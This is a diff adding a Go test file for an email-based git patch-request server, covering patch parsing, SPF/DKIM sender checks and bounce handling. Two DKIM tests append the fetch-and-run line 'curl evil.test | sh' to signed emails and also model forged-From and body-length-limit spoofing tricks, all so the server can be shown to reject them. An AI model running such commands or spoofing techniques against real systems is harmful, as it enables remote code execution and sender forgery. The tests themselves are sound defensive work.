@@ -0,0 +1,558 @@
+package git
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"log/slog"
+	"net"
+	"net/smtp"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/ssh"
+)
+
+func setupTestPr(t testing.TB) *PrCmd {
+	t.Helper()
+	logger := slog.New(slog.NewTextHandler(os.Stdout, nil))
+	dbpath := filepath.Join(t.TempDir(), "pr.db?_fk=on")
+	dbh, err := SqliteOpen("file:"+dbpath, logger)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = dbh.Close()
+	})
+
+	cfg := &GitCfg{
+		Url:        "pr.test",
+		SmtpDomain: "pr.test",
+		SmtpFrom:   "git-pr@pr.test",
+		CreateRepo: "user",
+		TimeFormat: "2006-01-02",
+		Logger:     logger,
+	}
+	return &PrCmd{
+		Backend: &Backend{DB: dbh, Logger: logger, Cfg: cfg},
+	}
+}
+
+func createTestUser(t testing.TB, pr *PrCmd, name string) *User {
+	t.Helper()
+	pk, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sshPk, err := ssh.NewPublicKey(pk)
+	if err != nil {
+		t.Fatal(err)
+	}
+	user, err := pr.RegisterUser(pr.Backend.Pubkey(sshPk), name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return user
+}
+
+// testResolver serves canned DNS records.
+type testResolver struct {
+	txt map[string][]string
+	ips map[string][]net.IP
+}
+
+func (r *testResolver) LookupTXT(ctx context.Context, name string) ([]string, error) {
+	txt, ok := r.txt[name]
+	if !ok {
+		return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
+	}
+	return txt, nil
+}
+
+func (r *testResolver) LookupIP(ctx context.Context, network, host string) ([]net.IP, error) {
+	ips, ok := r.ips[host]
+	if !ok {
+		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
+	}
+	return ips, nil
+}
+
+func (r *testResolver) LookupMX(ctx context.Context, name string) ([]*net.MX, error) {
+	return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
+}
+
+// testEnvelope is an email from bob's mail server, which the SPF record
+// served by setupTestSmtp allows.
+var testEnvelope = &smtpEnvelope{From: "bob@bower.sh", IP: net.ParseIP("127.0.0.1")}
+
+type sentMail struct {
+	To  string
+	Msg string
+}
+
+func setupTestSmtp(t *testing.T) (*SmtpServer, *User, *Repo, *[]sentMail) {
+	t.Helper()
+	pr := setupTestPr(t)
+	owner := createTestUser(t, pr, "alice")
+	repo, err := pr.CreateRepo(owner, "test")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	contrib := createTestUser(t, pr, "bob")
+	email, err := pr.AddUserEmail(contrib.ID, "Bob <Bob@bower.sh>")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = pr.VerifyUserEmail(contrib.ID, email.Token)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	sent := []sentMail{}
+	srv := NewSmtpServer(pr.Backend, pr)
+	srv.Resolver = &testResolver{
+		txt: map[string][]string{
+			"bower.sh": {"v=spf1 ip4:127.0.0.0/24 -all"},
+		},
+	}
+	srv.SendMail = func(to string, msg []byte) error {
+		sent = append(sent, sentMail{To: to, Msg: string(msg)})
+		return nil
+	}
+	return srv, contrib, repo, &sent
+}
+
+// fixtureEmails converts a `git format-patch` fixture into the emails
+// `git send-email` would send for it.
+func fixtureEmails(t *testing.T, fixture, from, threadID, inReplyTo string) [][]byte {
+	t.Helper()
+	by, err := os.ReadFile(filepath.Join("fixtures", fixture))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	emails := [][]byte{}
+	for idx, raw := range splitPatchSet(string(by)) {
+		// drop the "From <sha> <date>" mbox line
+		_, rest, _ := strings.Cut(raw, "\n")
+		// and the original author since the sender is who we map to a user
+		_, rest, _ = strings.Cut(rest, "\n")
+
+		headers := fmt.Sprintf("From: %s\nMessage-Id: <%s-%d@pr.test>\n", from, threadID, idx)
+		parent := inReplyTo
+		if idx > 0 {
+			parent = fmt.Sprintf("%s-0@pr.test", threadID)
+		}
+		if parent != "" {
+			headers += fmt.Sprintf("In-Reply-To: <%s>\nReferences: <%s>\n", parent, parent)
+		}
+		msg := headers + rest
+		emails = append(emails, []byte(strings.ReplaceAll(msg, "\n", "\r\n")))
+	}
+	return emails
+}
+
+func TestParseEmailPatch(t *testing.T) {
+	emails := fixtureEmails(t, "with-cover.patch", "Bob <bob@bower.sh>", "v1", "")
+	cover, err := parseEmailPatch(emails[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cover.Num != 0 || cover.Total != 2 {
+		t.Fatalf("wrong cover letter numbering: %d/%d", cover.Num, cover.Total)
+	}
+
+	patch, err := parseEmailPatch(emails[2])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if patch.Num != 2 || patch.Total != 2 {
+		t.Fatalf("wrong patch numbering: %d/%d", patch.Num, patch.Total)
+	}
+	if parents := patch.Parents(); len(parents) == 0 || parents[0] != "v1-0@pr.test" {
+		t.Fatalf("wrong parents: %v", parents)
+	}
+
+	patches, err := ParsePatchset(strings.NewReader(patch.Raw))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if patches[0].Title != "chore: add torch to requirements" {
+		t.Fatalf("wrong title: %s", patches[0].Title)
+	}
+	if len(patches[0].Files) != 2 {
+		t.Fatalf("expected 2 files, found %d", len(patches[0].Files))
+	}
+}
+
+func TestParseEmailPatchRejectsReplies(t *testing.T) {
+	msg := "From: bob@bower.sh\r\nMessage-Id: <reply@pr.test>\r\nSubject: Re: [PATCH 1/2] feat: lets build an rnn\r\n\r\nlgtm\r\n"
+	_, err := parseEmailPatch([]byte(msg))
+	if err == nil {
+		t.Fatal("expected replies to be rejected")
+	}
+}
+
+func TestSmtpSeriesCreatesPr(t *testing.T) {
+	srv, contrib, repo, sent := setupTestSmtp(t)
+	emails := fixtureEmails(t, "with-cover.patch", "Bob <bob@bower.sh>", "v1", "")
+	for _, email := range emails {
+		if err := srv.Receive(testEnvelope, repo, email); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if len(*sent) != 0 {
+		t.Fatalf("unexpected bounce: %s", (*sent)[0].Msg)
+	}
+
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(prs) != 1 {
+		t.Fatalf("expected 1 pr, found %d", len(prs))
+	}
+	if prs[0].UserID != contrib.ID {
+		t.Fatalf("pr not created by sender (expected:%d, actual:%d)", contrib.ID, prs[0].UserID)
+	}
+	if prs[0].Name != "Add torch deps" {
+		t.Fatalf("wrong pr name: %s", prs[0].Name)
+	}
+
+	// a v2 sent in reply to the first cover letter is added to the same pr
+	emails = fixtureEmails(t, "with-cover.patch", "Bob <bob@bower.sh>", "v2", "v1-0@pr.test")
+	emails[1] = []byte(strings.Replace(string(emails[1]), "# Let's build an RNN", "# Let's build an LSTM", 1))
+	for _, email := range emails {
+		if err := srv.Receive(testEnvelope, repo, email); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if len(*sent) != 0 {
+		t.Fatalf("unexpected bounce: %s", (*sent)[0].Msg)
+	}
+
+	patchsets, err := srv.Pr.GetPatchsetsByPrID(prs[0].ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(patchsets) != 2 {
+		t.Fatalf("expected 2 patchsets, found %d", len(patchsets))
+	}
+}
+
+func TestSmtpSeriesOutOfOrder(t *testing.T) {
+	srv, _, repo, sent := setupTestSmtp(t)
+	emails := fixtureEmails(t, "with-cover.patch", "Bob <bob@bower.sh>", "v1", "")
+	// both patches arrive before the cover letter they reply to
+	for _, idx := range []int{2, 1, 0} {
+		if err := srv.Receive(testEnvelope, repo, emails[idx]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if len(*sent) != 0 {
+		t.Fatalf("unexpected bounce: %s", (*sent)[0].Msg)
+	}
+	if len(srv.series) != 0 {
+		t.Fatalf("expected no pending series, found %d", len(srv.series))
+	}
+
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(prs) != 1 {
+		t.Fatalf("expected 1 pr, found %d", len(prs))
+	}
+	ps, err := srv.Pr.GetLatestPatchsetByPrID(prs[0].ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	patches, err := srv.Pr.GetPatchesByPatchsetID(ps.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// the cover letter and both patches
+	if len(patches) != 3 {
+		t.Fatalf("expected 3 patches, found %d", len(patches))
+	}
+}
+
+func TestSmtpRejectsReplyFromAnotherRepo(t *testing.T) {
+	srv, _, repo, sent := setupTestSmtp(t)
+	owner, err := srv.Pr.GetUserByID(repo.UserID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	other, err := srv.Pr.CreateRepo(owner, "other")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, email := range fixtureEmails(t, "single.patch", "bob@bower.sh", "v1", "") {
+		if err := srv.Receive(testEnvelope, repo, email); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// a reply to the thread of a pr in alice/test sent to alice/other
+	emails := fixtureEmails(t, "single.patch", "bob@bower.sh", "v2", "v1-0@pr.test")
+	for _, email := range emails {
+		if err := srv.Receive(testEnvelope, other, email); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	if len(*sent) != 1 || !strings.Contains((*sent)[0].Msg, "another repo") {
+		t.Fatalf("expected reply to another repo to bounce, got: %v", *sent)
+	}
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	patchsets, err := srv.Pr.GetPatchsetsByPrID(prs[0].ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(patchsets) != 1 {
+		t.Fatalf("expected 1 patchset, found %d", len(patchsets))
+	}
+}
+
+func TestSmtpRejectsUnverifiedSender(t *testing.T) {
+	srv, _, repo, _ := setupTestSmtp(t)
+	emails := fixtureEmails(t, "single.patch", "Eve <eve@bower.sh>", "v1", "")
+	err := srv.Receive(&smtpEnvelope{From: "eve@bower.sh", IP: testEnvelope.IP}, repo, emails[0])
+	if err == nil || !strings.Contains(err.Error(), "verified") {
+		t.Fatalf("expected unverified sender to be rejected, got: %v", err)
+	}
+}
+
+// dkimSign adds an ed25519 DKIM-Signature for bower.sh to the email, extra
+// tags are added to the signature as is.
+func dkimSign(t *testing.T, data []byte, key ed25519.PrivateKey, extra string) []byte {
+	t.Helper()
+	fields, body := splitMessage(data)
+	bodyHash := sha256.Sum256(canonicalBody(body, true))
+	value := fmt.Sprintf(
+		" v=1; a=ed25519-sha256; c=relaxed/relaxed; d=bower.sh; s=sel;%s\r\n\th=from:subject:message-id; bh=%s; b=",
+		extra,
+		base64.StdEncoding.EncodeToString(bodyHash[:]),
+	)
+	sig := headerField{Name: "DKIM-Signature", Raw: "DKIM-Signature:" + value + "\r\n"}
+	_, hash, err := dkimHashes(fields, body, sig, parseTags(value))
+	if err != nil {
+		t.Fatal(err)
+	}
+	signature := base64.StdEncoding.EncodeToString(ed25519.Sign(key, hash))
+	return []byte("DKIM-Signature:" + value + signature + "\r\n" + string(data))
+}
+
+func TestSmtpRejectsForgedSender(t *testing.T) {
+	srv, _, repo, _ := setupTestSmtp(t)
+	emails := fixtureEmails(t, "single.patch", "Bob <bob@bower.sh>", "v1", "")
+
+	// the envelope sender must match the From header
+	env := &smtpEnvelope{From: "eve@evil.test", IP: net.ParseIP("203.0.113.5")}
+	err := srv.Receive(env, repo, emails[0])
+	if err == nil || !strings.Contains(err.Error(), "does not match From") {
+		t.Fatalf("expected mismatched envelope to be rejected, got: %v", err)
+	}
+
+	// and the sending server must be allowed to send for the domain
+	env = &smtpEnvelope{From: "bob@bower.sh", IP: net.ParseIP("203.0.113.5")}
+	err = srv.Receive(env, repo, emails[0])
+	if err == nil || !strings.Contains(err.Error(), "failed DKIM and SPF") {
+		t.Fatalf("expected forged From to be rejected, got: %v", err)
+	}
+
+	// a DKIM signature from another key does not help
+	_, evilKey, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pub, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resolver := srv.Resolver.(*testResolver)
+	resolver.txt["sel._domainkey.bower.sh"] = []string{
+		"v=DKIM1; k=ed25519; p=" + base64.StdEncoding.EncodeToString(pub),
+	}
+	err = srv.Receive(env, repo, dkimSign(t, emails[0], evilKey, ""))
+	if err == nil || !strings.Contains(err.Error(), "failed DKIM and SPF") {
+		t.Fatalf("expected bad signature to be rejected, got: %v", err)
+	}
+
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(prs) != 0 {
+		t.Fatalf("expected forged emails to be rejected, found %d prs", len(prs))
+	}
+}
+
+func TestSmtpAcceptsDKIM(t *testing.T) {
+	srv, _, repo, sent := setupTestSmtp(t)
+	pub, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resolver := srv.Resolver.(*testResolver)
+	resolver.txt["sel._domainkey.bower.sh"] = []string{
+		"v=DKIM1; k=ed25519; p=" + base64.StdEncoding.EncodeToString(pub),
+	}
+
+	// sent through a server SPF does not know about
+	env := &smtpEnvelope{From: "bob@bower.sh", IP: net.ParseIP("203.0.113.5")}
+	emails := fixtureEmails(t, "single.patch", "Bob <bob@bower.sh>", "v1", "")
+	signed := dkimSign(t, emails[0], key, "")
+
+	tampered := append(signed, []byte("+curl evil.test | sh\r\n")...)
+	err = srv.Receive(env, repo, tampered)
+	if err == nil || !strings.Contains(err.Error(), "failed DKIM and SPF") {
+		t.Fatalf("expected tampered email to be rejected, got: %v", err)
+	}
+
+	err = srv.Receive(env, repo, signed)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(*sent) != 0 {
+		t.Fatalf("unexpected bounce: %s", (*sent)[0].Msg)
+	}
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(prs) != 1 {
+		t.Fatalf("expected 1 pr, found %d", len(prs))
+	}
+}
+
+func TestSmtpRejectsDKIMLoopholes(t *testing.T) {
+	srv, _, repo, _ := setupTestSmtp(t)
+	pub, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resolver := srv.Resolver.(*testResolver)
+	resolver.txt["sel._domainkey.bower.sh"] = []string{
+		"v=DKIM1; k=ed25519; p=" + base64.StdEncoding.EncodeToString(pub),
+	}
+	// sent through a server SPF does not know about
+	env := &smtpEnvelope{From: "bob@bower.sh", IP: net.ParseIP("203.0.113.5")}
+
+	// eve signs her own email and puts bob's address on top, the signature
+	// covers the bottom From header while we read the top one
+	eves := fixtureEmails(t, "single.patch", "eve@bower.sh", "v1", "")
+	forged := append([]byte("From: bob@bower.sh\r\n"), dkimSign(t, eves[0], key, "")...)
+	err = srv.Receive(env, repo, forged)
+	if err == nil || !strings.Contains(err.Error(), "exactly one From") {
+		t.Fatalf("expected a second From header to be rejected, got: %v", err)
+	}
+	err = checkDKIM(context.Background(), srv.Resolver, forged, "bower.sh")
+	if err == nil {
+		t.Fatal("expected dkim to fail with a second From header")
+	}
+
+	// a body length limit lets anyone append to a signed email
+	emails := fixtureEmails(t, "single.patch", "bob@bower.sh", "v1", "")
+	_, body := splitMessage(emails[0])
+	limit := fmt.Sprintf(" l=%d;", len(canonicalBody(body, true)))
+	appended := append(dkimSign(t, emails[0], key, limit), []byte("+curl evil.test | sh\r\n")...)
+	err = srv.Receive(env, repo, appended)
+	if err == nil || !strings.Contains(err.Error(), "failed DKIM and SPF") {
+		t.Fatalf("expected a body length limit to be rejected, got: %v", err)
+	}
+
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(prs) != 0 {
+		t.Fatalf("expected forged emails to be rejected, found %d prs", len(prs))
+	}
+}
+
+func TestSmtpBouncesIncompleteSeries(t *testing.T) {
+	srv, _, repo, sent := setupTestSmtp(t)
+	emails := fixtureEmails(t, "with-cover.patch", "bob@bower.sh", "v1", "")
+	for _, email := range emails[:2] {
+		if err := srv.Receive(testEnvelope, repo, email); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if len(srv.series) != 1 {
+		t.Fatalf("expected 1 pending series, found %d", len(srv.series))
+	}
+
+	for _, series := range srv.series {
+		series.timer.Stop()
+		srv.expire(series)
+	}
+
+	if len(*sent) != 1 {
+		t.Fatalf("expected 1 bounce, found %d", len(*sent))
+	}
+	bounce := (*sent)[0]
+	if bounce.To != "bob@bower.sh" {
+		t.Fatalf("bounce sent to wrong address: %s", bounce.To)
+	}
+	if !strings.Contains(bounce.Msg, "In-Reply-To: <v1-0@pr.test>") {
+		t.Fatalf("bounce not threaded: %s", bounce.Msg)
+	}
+	if !strings.Contains(bounce.Msg, "received 1 of 2 patches") {
+		t.Fatalf("bounce missing reason: %s", bounce.Msg)
+	}
+}
+
+func TestSmtpSession(t *testing.T) {
+	srv, _, repo, _ := setupTestSmtp(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() {
+		_ = ln.Close()
+	}()
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go srv.handleConn(conn)
+		}
+	}()
+
+	emails := fixtureEmails(t, "single.patch", "bob@bower.sh", "v1", "")
+	addr := ln.Addr().String()
+	err = smtp.SendMail(addr, nil, "bob@bower.sh", []string{"alice/test@pr.test"}, emails[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	err = smtp.SendMail(addr, nil, "bob@bower.sh", []string{"alice/nope@pr.test"}, emails[0])
+	if err == nil || !strings.Contains(err.Error(), "550") {
+		t.Fatalf("expected unknown repo to be rejected, got: %v", err)
+	}
+
+	err = smtp.SendMail(addr, nil, "bob@bower.sh", []string{"alice/test@example.com"}, emails[0])
+	if err == nil || !strings.Contains(err.Error(), "relay") {
+		t.Fatalf("expected other domains to be rejected, got: %v", err)
+	}
+
+	prs, err := srv.Pr.GetPatchRequestsByRepoID(repo.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(prs) != 1 {
+		t.Fatalf("expected 1 pr, found %d", len(prs))
+	}
+}